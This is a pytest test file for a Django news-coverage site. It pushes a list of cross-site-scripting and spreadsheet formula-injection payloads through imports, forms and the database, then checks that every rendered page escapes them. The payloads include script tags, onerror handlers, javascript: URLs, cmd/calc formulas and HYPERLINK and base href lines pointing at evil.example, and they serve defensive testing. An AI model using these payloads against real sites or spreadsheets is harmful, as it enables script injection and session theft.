"""Hostile text everywhere people can put text, then every page of the project rendered.

A corpus of script-injection payloads goes through the real ways text gets in (the
JSON and CSV imports, the import_event command, the paste form, curation), and, for fields
whose validation might one day be bypassed, straight into the database. Then every page
the URL resolver knows (tests/pages.py, so new pages are covered without listing them) is
fetched as an editor, as an htmx partial and as a visitor, with hostile query strings too,
and its HTML is parsed: no script, handler, style or javascript: URL may come from the data.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.core.management import call_command
from django.test import Client

from coverage import services
from coverage.ingest import importers
from coverage.models import AnalysisRun, Article, Event, Outlet, Stance
from coverage.templatetags.safe_urls import web_address
from tests.conftest import make_assertion
from tests.pages import Objects, Page, project_pages

# Each carries a marker "xssNN" so a leak can be traced to its payload.
PAYLOADS = [
    "<script>alert('xss01')</script>",
    "\"><img src=x onerror=alert('xss02')>",
    "'><svg onload=alert('xss03')>",
    "javascript:alert('xss04')",
    "<a href=\"javascript:alert('xss05')\">xss05</a>",
    "<iframe src=\"javascript:alert('xss06')\"></iframe>",
    "</textarea><script>alert('xss07')</script>",
    "</title><script>alert('xss08')</script>",
    "<style>body{background:url(\"javascript:alert('xss09')\")}</style>",
    "[xss10](javascript:alert('xss10'))",
    "![xss11](x\" onerror=\"alert('xss11'))",
    '=HYPERLINK("http://evil.example/?xss12","click")',
    "+cmd|' /C calc'!A0 xss13",
    "<svg><script>alert('xss14')</script></svg>",
    "\uff1cscript\uff1ealert('xss15')\uff1c/script\uff1e",
    "jav&#x09;ascript:alert('xss16')",
    "\u202e<b onmouseover=alert('xss17')>gnp.exe</b>",
    "<img src=x onerror=alert`xss18`>",
    "{{ request.user }}{% csrf_token %} xss19",
    '<!--xss20--><base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss21\')">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss22')>",
    "-@SUM(1+1)*cmd|' /C calc'!A0 xss23",
    "' onfocus='alert(\"xss24\")' autofocus='",
]
JS_URL = "javascript:alert('xss-url')"

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "style"}
HTMX_REQUESTS = {"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"}
SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")


class _Audit(HTMLParser):
    """Collects what in a page could run script: tags, handlers, URLs, inline code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._inline_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "base" and "href" in values:
            self.problems.append(f"<base href={values['href']!r}>")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"<meta http-equiv={values['http-equiv']!r}>")
        if tag == "script":
            source = values.get("src") or ""
            if not source.startswith("/static/"):
                self.problems.append(f"<script src={source!r}>")
            self._inline_script = True
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.problems.append(f"<{tag} {name}={value[:60]!r}>")
            if name in URL_ATTRIBUTES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                if plain.startswith(("javascript:", "vbscript:", "data:text")):
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>")
            if name in HTMX_REQUESTS and re.match(r"\s*([a-z][a-z0-9+.-]*:|//|\\)", value, re.I):
                self.problems.append(f"<{tag} {name}={value[:60]!r}> leaves the site")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._inline_script = False

    def handle_data(self, data: str) -> None:
        if self._inline_script and data.strip():
            self.problems.append(f"inline script {data.strip()[:60]!r}")


def problems_in(response) -> list[str]:
    """What in a response could run injected script, by its content type."""
    content_type = response.get("Content-Type", "")
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    body = raw.decode("utf-8", errors="replace")
    if content_type.startswith("text/html"):
        audit = _Audit()
        audit.feed(body)
        audit.close()
        leaked = [payload for payload in PAYLOADS if "<" in payload and payload in body]
        return audit.problems + [f"unescaped {payload!r}" for payload in leaked]
    if content_type.startswith("text/csv"):
        return [
            f"spreadsheet formula {value[:60]!r}"
            for row in csv.reader(io.StringIO(body))
            for value in row
            if "xss" in value and value.startswith(SPREADSHEET_FORMULA)
        ]
    if content_type.startswith("text/markdown"):
        # A link or autolink, unless its bracket is escaped and so plain text.
        links = re.findall(r"(?<!\\)(?:\]\(\s*<?|<)\s*javascript:", body, re.IGNORECASE)
        return [f"markdown link to {link!r}" for link in links]
    if content_type.startswith("application/json"):
        json.loads(body)  # well-formed, so a client's parser is not confused
    return []


def _outlet_name(number: int, payload: str) -> str:
    return f"{payload} {number}"


@pytest.fixture
def hostile(db, editor, admin) -> Objects:
    """An event whose every text field holds the payloads."""
    event = Event.objects.create(
        title=f"Bridge {PAYLOADS[0]} {PAYLOADS[1]}",
        slug="hostile",
        summary="\n".join(PAYLOADS),
        status=Event.Status.PUBLISHED,
    )
    event.editors.add(editor)
    articles = [
        {
            "outlet": _outlet_name(number, payload),
            "title": payload,
            "text": f"The bridge closed {payload}. Officials said {payload} repairs take a week.",
            "author": payload,
            "url": f"https://example.org/{number}?q=%22%3E%3Cscript%3Exss",
        }
        for number, payload in enumerate(PAYLOADS[:12])
    ]
    services.add_articles(event=event, articles=importers.parse_json(json.dumps(articles).encode()))
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["outlet", "title", "text", "author"])
    for number, payload in enumerate(PAYLOADS[12:], start=12):
        writer.writerow(
            [_outlet_name(number, payload), payload, f"Reportedly {payload}. More.", payload]
        )
    services.add_articles(
        event=event, articles=importers.parse_upload("a.csv", rows.getvalue().encode())
    )
    for payload in PAYLOADS:
        make_assertion(event, payload)
    Outlet.objects.update(notes="\n".join(PAYLOADS), country=PAYLOADS[2], language="x")
    # A few rows of cells are enough to carry every payload in a note.
    for stance in Stance.objects.filter(
        assertion__event=event, assertion__position__lt=3
    ).select_related("article"):
        services.set_stance(
            stance=stance,
            label="agree",
            hedged=True,
            evidence=stance.article.sentences.order_by("index").first(),
            note=PAYLOADS[stance.article_id % len(PAYLOADS)],
            user=editor,
        )
    Stance.objects.filter(assertion__event=event).update(attributed_to=PAYLOADS[1])
    AnalysisRun.objects.create(
        event=event,
        status=AnalysisRun.Status.FAILED,
        message=PAYLOADS[0],
        warnings=PAYLOADS[:5],
        step=PAYLOADS[3],
    )
    objects = Objects.of(event)
    # Web addresses a form would refuse, as if stored before validation or by a bug, on
    # the outlet and article whose pages the tests fetch.
    Outlet.objects.filter(pk=objects.outlet.pk).update(homepage=JS_URL)
    Article.objects.filter(pk=objects.article.pk).update(url=JS_URL)
    return objects


def _pages(objects: Objects) -> list[Page]:
    pages, _skipped = project_pages(objects)
    return [page for page in pages if page.name not in {"logout"}]


def _audit(client: Client, pages: list[Page], data: dict | None = None, **extra) -> list[str]:
    found = []
    for page in pages:
        response = client.get(page.url, data, **extra)
        for problem in problems_in(response):
            found.append(f"{page.name} {page.url}: {problem}")
    return found


def test_it_escapes_the_payloads_on_every_page_for_editors(client, editor, hostile):
    client.force_login(editor)
    found = _audit(client, _pages(hostile))
    assert found == [], "\n".join(found)


def test_it_escapes_the_payloads_in_every_htmx_partial(client, editor, hostile):
    client.force_login(editor)
    assert _audit(client, _pages(hostile), HTTP_HX_REQUEST="true") == []


def test_it_escapes_the_payloads_on_every_page_for_visitors(client, hostile):
    assert _audit(client, _pages(hostile)) == []


def test_it_escapes_payloads_in_query_strings(client, editor, hostile):
    client.force_login(editor)
    names = ["q", "page", "sort", "sentence", "next", "blind", "show", "reveal", "outlet", "format"]
    hostile_query = {name: PAYLOADS[number] for number, name in enumerate(names, start=1)}
    found = _audit(client, _pages(hostile), data=hostile_query)
    assert found == [], "\n".join(found)


def test_it_reaches_the_hostile_text_on_the_pages_it_checks(client, editor, hostile):
    """The audit above is only worth something if the payloads are on the pages, escaped."""
    client.force_login(editor)
    matrix = client.get(hostile.event.get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(&#x27;xss01&#x27;)&lt;/script&gt;" in matrix
    article = client.get(f"/events/hostile/articles/{hostile.article.pk}/").content.decode()
    assert "xss" in article
    outlet = client.get(f"/outlets/{hostile.outlet.slug}/").content.decode()
    assert "xss" in outlet
    assert "javascript:alert(&#x27;xss-url&#x27;)" in outlet  # the homepage, as text


def test_it_refuses_javascript_urls_on_the_import_paths(db):
    with pytest.raises(services.ImportProblem, match="not a web address"):
        services.add_articles(
            event=Event.objects.create(title="T", slug="t"),
            articles=[{"outlet": "O", "title": "T", "text": "Text.", "url": JS_URL}],
        )


def test_it_keeps_payloads_as_text_through_the_import_event_command(db, tmp_path):
    source = tmp_path / "event.json"
    source.write_text(
        json.dumps(
            {
                "title": PAYLOADS[7],
                "summary": PAYLOADS[5],
                "articles": [
                    {"outlet": PAYLOADS[2], "title": PAYLOADS[0], "text": f"Said {PAYLOADS[4]}."}
                ],
            }
        )
    )
    call_command("import_event", str(source), "--publish", stdout=io.StringIO())
    event = Event.objects.get(title=PAYLOADS[7])
    assert event.summary == PAYLOADS[5]
    assert re.fullmatch(r"[-a-z0-9]+", Outlet.objects.get(name=PAYLOADS[2]).slug)
    response = Client().get(event.get_absolute_url())
    assert response.status_code == 200
    assert problems_in(response) == []


def test_it_keeps_pasted_payloads_as_text(editor_client, hostile):
    response = editor_client.post(
        "/events/hostile/articles/add/paste/",
        {
            "paste-outlet": PAYLOADS[21],
            "paste-title": f"Pasted {PAYLOADS[6]}",
            "paste-text": f"Text {PAYLOADS[13]} here. And {PAYLOADS[8]}.",
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert problems_in(response) == []
    article = Article.objects.get(title=f"Pasted {PAYLOADS[6]}")
    page = editor_client.get(f"/events/hostile/articles/{article.pk}/")
    assert problems_in(page) == []


def test_the_audit_catches_what_it_looks_for():
    """Each rule of the audit fires on the markup it is meant to catch."""

    class Page:
        def __init__(self, body: str, content_type: str = "text/html; charset=utf-8"):
            self.content = body.encode()
            self.streaming = False
            self._headers = {"Content-Type": content_type}

        def get(self, name: str, default: str = "") -> str:
            return self._headers.get(name, default)

    for markup in [
        "<p>" + PAYLOADS[0] + "</p>",
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        "<div onclick=x>",
        '<div style="color:red">',
        "<script>alert(1)</script>",
        '<script src="https://cdn.example/x.js"></script>',
        "<iframe></iframe>",
        '<button hx-post="https://evil.example/">',
    ]:
        assert problems_in(Page(markup)), markup
    assert problems_in(Page("a,=1+1 xss\n", "text/csv"))
    assert problems_in(Page("[a](javascript:x)", "text/markdown"))
    assert problems_in(Page("[a](<javascript:x>)", "text/markdown"))
    assert problems_in(Page("<javascript:x>", "text/markdown"))
    assert problems_in(Page("\\[a\\](javascript:x)", "text/markdown")) == []
    assert problems_in(Page('<base href="//evil.example/">'))
    assert problems_in(Page('<base target="_blank">')) == []
    assert problems_in(Page("<p>&lt;script&gt;</p><script src='/static/a.js'></script>")) == []


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("https://example.org/a?b=1", "https://example.org/a?b=1"),
        (" HTTP://example.org/ ", "HTTP://example.org/"),
        ("javascript:alert(1)", ""),
        (" JavaScript:alert(1)", ""),
        ("java\tscript:alert(1)", ""),
        ("\x01javascript:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("//evil.example/", ""),
        ("", ""),
        (None, ""),
    ],
)
def test_it_links_only_web_addresses(value, shown):
    assert web_address(value) == shown
